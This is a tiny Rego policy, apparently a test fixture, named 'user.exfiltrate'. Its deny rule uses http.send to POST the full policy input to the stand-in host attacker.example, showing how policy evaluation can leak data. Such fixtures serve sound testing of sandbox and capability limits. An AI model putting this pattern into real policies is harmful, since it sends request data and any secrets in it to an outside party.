package user.exfiltrate

deny contains "sent" if {
	http.send({"method": "POST", "url": "https://attacker.example/", "body": input})
}
